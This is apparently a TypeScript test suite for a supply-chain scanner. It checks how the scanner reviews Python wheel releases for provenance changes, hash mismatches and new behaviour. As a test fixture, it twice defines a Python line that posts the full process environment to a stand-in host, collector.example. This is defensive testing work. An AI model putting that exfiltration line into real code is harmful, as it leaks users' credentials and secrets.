/** Python releases held against the ones before them, in reviews and in plain checks, by a package index on this machine. */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { join } from "node:path";
import { test } from "node:test";
import { check } from "../src/app/check.ts";
import { review } from "../src/app/review/review.ts";
import { type Report } from "../src/model/index.ts";
import { type FakeFile, sha256Of } from "./registry/pypi.ts";
import { npmTarball } from "./registry/tar.ts";
import { zip } from "./registry/zip.ts";
import { WHEEL, answer, attested, claims, desk, gaps, github, poetryLock } from "./registry/pypi-desk.ts";

const wheelOf = (version: string, code: string): Buffer =>
  zip([
    { path: "good/__init__.py", content: code },
    { path: `good-${version}.dist-info/METADATA`, content: `Metadata-Version: 2.1\nName: good\nVersion: ${version}\n` },
  ]);

/** Signed by the workflow of another repository, and published under it. */
const identity = "https://github.com/other/project/.github/workflows/release.yml@refs/tags/v1.1.0";
const stranger = {
  publisher: { ...github, repository: "other/project" },
  signing: {
    identity,
    claims: {
      ...claims,
      9: identity,
      12: "https://github.com/other/project",
      15: "9009",
      16: "https://github.com/other",
      17: "9010",
      18: identity,
    },
  },
} as const;

test("two releases of an index are reviewed by the wheel that anybody would install, and by where both come from", async (t) => {
  const theft = 'import os, urllib.request\nurllib.request.urlopen("https://collector.example", data=str(dict(os.environ)).encode())\n';
  const it = await desk(t, [
    {
      name: "good",
      files: [
        attested(WHEEL, wheelOf("1.0", "def add(a, b):\n    return a + b\n")),
        attested("good-1.1-py3-none-any.whl", wheelOf("1.1", theft), stranger),
      ],
    },
  ]);
  const compare = async (offline: boolean) =>
    await review({ kind: "pair", before: "pypi:good@1.0", after: "pkg:pypi/good@1.1" }, { ...it.place, offline });
  const [first] = await compare(false);
  assert.equal(first?.package, "good");
  assert.ok(first.files.some(({ path }) => path === "good/__init__.py"));
  assert.deepEqual(
    first.origin.changes.map(({ about }) => about),
    ["repository", "owner"],
  );
  assert.notEqual(first.verdict.verdict, "pass");
  assert.deepEqual(await compare(true), [first], "offline it says the same");
  await assert.rejects(review({ kind: "pair", before: "pypi:good@1.0", after: "pypi:good@9.9" }, { ...it.place, offline: false }), {
    code: "source/not-found",
  });
});

test("bytes that are not those of the index's hash are not reviewed", async (t) => {
  const it = await desk(t, [{ name: "good", files: [{ name: WHEEL, content: wheelOf("1.0", "") }] }]);
  const swapped = { name: WHEEL, content: wheelOf("1.0", "import os\n"), hash: sha256Of("other") };
  it.index.publish({ name: "good", files: [swapped] });
  await assert.rejects(review({ kind: "pair", before: "pypi:good@1.0", after: "pypi:good@1.0" }, { ...it.place, offline: false }), {
    code: "source/body",
    message: /have not the SHA-256 that the index gives/,
  });
});

const DAY = 24 * 60 * 60 * 1000;
const daysAgo = (days: number): string => new Date(Date.now() - days * DAY).toISOString();
const calm = "def add(a, b):\n    return a + b\n";
/** Aimed at a name that cannot exist, and never run. */
const theft = `${calm}import os, urllib.request\nurllib.request.urlopen("https://collector.example", data=str(dict(os.environ)).encode())\n`;
const released = (version: string, code: string, uploaded: string): FakeFile => ({
  name: `good-${version}-py3-none-any.whl`,
  content: wheelOf(version, code),
  uploaded,
});
const locked = (version: string, ...files: readonly FakeFile[]): Readonly<Record<string, string>> => ({
  "poetry.lock": poetryLock("good", files).replace('version = "1.0"', `version = "${version}"`),
});
const five = (report: Report): readonly unknown[] => {
  const { outcome, asked, answered } = answer(report, "behaviour") ?? {};
  return [outcome, asked, answered];
};

test("a young release of an index is compared with the one before it, an old one is not and is not called fine", async (t) => {
  const [old, middle, young] = [
    released("1.0", calm, daysAgo(500)),
    released("1.1", calm, daysAgo(400)),
    released("1.2", theft, daysAgo(3)),
  ];
  const it = await desk(t, [{ name: "good", files: [old, middle, young] }]);
  it.write(locked("1.2", young));
  const report = await it.check();
  assert.deepEqual(five(report), ["review", 1, 1]);
  const found = report.findings.filter(({ rule }) => rule === "behaviour/new-behaviour" || rule === "continuity/suspicious-release");
  assert.deepEqual(
    found.map(({ rule, subject, remedy }) => [rule, subject, remedy.command]),
    [
      ["continuity/suspicious-release", "pkg:pypi/good@1.2", "tributary review pypi:good@1.1 pypi:good@1.2"],
      ["behaviour/new-behaviour", "pkg:pypi/good@1.2", "tributary review pypi:good@1.1 pypi:good@1.2"],
    ],
  );
  assert.match(found[1]?.message ?? "", /^Against 1\.1, good@1\.2 newly .*good\/__init__\.py/);
  const asked = it.index.requests.length;
  assert.deepEqual((await it.check({ offline: true })).findings, report.findings, "offline it says the same");
  assert.equal(it.index.requests.length, asked);

  it.write(locked("1.1", middle));
  const calmReport = await it.check({ env: { TRIBUTARY_DATA: join(it.home, "other") } });
  assert.match(answer(calmReport, "behaviour")?.sentence ?? "", /Not asked about 1 that came out more than 90 days ago/);
});

test("what the last check saw in its place is what a Python release is held to, whatever its age", async (t) => {
  const files = [released("1.0", calm, daysAgo(500)), released("1.1", theft, daysAgo(400))];
  const it = await desk(t, [{ name: "good", files }]);
  it.write(locked("1.0", ...files.slice(0, 1)));
  await it.check();
  it.write(locked("1.1", ...files.slice(1)));
  for (const round of ["first", "second"]) {
    const report = await it.check();
    assert.deepEqual(five(report), ["review", 1, 1], round);
    assert.ok(
      report.findings.some(({ message }) => message.startsWith("Against 1.0, good@1.1 newly ")),
      round,
    );
  }
});

const sources = (code: string): Buffer => npmTarball({ "setup.py": "from setuptools import setup\nsetup()\n", "good/__init__.py": code });

test("a file that was added to an old release yesterday is young, and is held to the file of its kind", async (t) => {
  const before: readonly FakeFile[] = [
    { name: "good-1.0.tar.gz", content: sources(calm), uploaded: daysAgo(500) },
    released("1.0", calm, daysAgo(500)),
  ];
  const added = released("1.1", theft, daysAgo(1));
  const it = await desk(t, [
    { name: "good", files: [...before, { name: "good-1.1.tar.gz", content: sources(calm), uploaded: daysAgo(400) }, added] },
  ]);
  it.write(locked("1.1", added));
  const report = await it.check();
  assert.deepEqual(five(report), ["review", 1, 1]);
  const message = report.findings.find(({ rule }) => rule === "behaviour/new-behaviour")?.message ?? "";
  assert.doesNotMatch(message, /setup\.py/, "the wheel before is what it is held to, not the source distribution");
});

test("bytes that are neither the lockfile's nor the index's are told, and are not compared", async (t) => {
  const right = released("1.1", calm, daysAgo(1));
  const it = await desk(t, [
    {
      name: "good",
      files: [released("1.0", calm, daysAgo(500)), { ...right, content: wheelOf("1.1", theft), hash: sha256Of(right.content) }],
    },
  ]);
  it.write(locked("1.1", right));
  const report = await it.check();
  const finding = report.findings.find(({ rule }) => rule === "integrity/bytes-mismatch");
  assert.match(
    finding?.message ?? "",
    /^poetry\.lock and the registry both promise sha256-\S+ for good@1\.1, but the bytes served at \S+ are sha512-/,
  );
  assert.equal(report.verdict.verdict, "block");
  assert.match(gaps(report, "behaviour"), /could not be compared: The bytes served for good-1\.1-py3-none-any\.whl have not the SHA-256/);
});

const signed = (version: string, uploaded: string, more: Parameters<typeof attested>[2] = {}): FakeFile => ({
  ...attested(`good-${version}-py3-none-any.whl`, wheelOf(version, calm), more),
  uploaded,
});

test("a release whose workflow is another repository's than that of the release before it, or nobody's, is told at first sight", async (t) => {
  const before = signed("1.0", daysAgo(300));
  for (const [name, young, told] of [
    ["as before", signed("1.1", daysAgo(2)), []],
    ["a stranger's", signed("1.1", daysAgo(2), stranger), ["provenance/source-changed"]],
    ["nobody's", released("1.1", calm, daysAgo(2)), ["provenance/lost"]],
  ] as const) {
    const it = await desk(t, [{ name: "good", files: [before, young] }]);
    it.write(locked("1.1", young));
    for (const offline of [false, true]) {
      const report = await it.check({ offline });
      const when = `${name}${offline ? ", offline" : ""}`;
      assert.deepEqual(
        report.findings.map(({ rule }) => rule),
        told,
        when,
      );
      // Only an attestation says who published: without one that half of the question stays open.
      const open = /indexes do not say who published a release, and no attestation of it does/.test(gaps(report, "continuity"));
      assert.equal(open, name === "nobody's", when);
    }
  }
});

test("against a revision each exchanged Python release is compared with the one whose place it took, and nothing else is spoken of", async (t) => {
  const files = [released("1.0", calm, daysAgo(500)), released("1.1", theft, daysAgo(400))];
  const it = await desk(t, [{ name: "good", files }]);
  const { cwd, env } = it.place;
  const git = (...args: readonly string[]): void =>
    void execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t.example", ...args], { cwd, stdio: "ignore" });
  it.write(locked("1.0", ...files.slice(0, 1)));
  for (const args of [
    ["init", "-q"],
    ["add", "--all"],
    ["commit", "-qm", "before"],
  ])
    git(...args);
  it.write(locked("1.1", ...files.slice(1)));
  const report = await check({ path: ".", cwd, env, since: "HEAD" });
  assert.deepEqual(five(report), ["review", 1, 1]);
  assert.ok(report.findings.some(({ message }) => message.startsWith("Against 1.0, good@1.1 newly ")));
  it.write(locked("1.0", ...files.slice(0, 1)));
  assert.deepEqual((await check({ path: ".", cwd, env, since: "HEAD" })).findings, []);
});
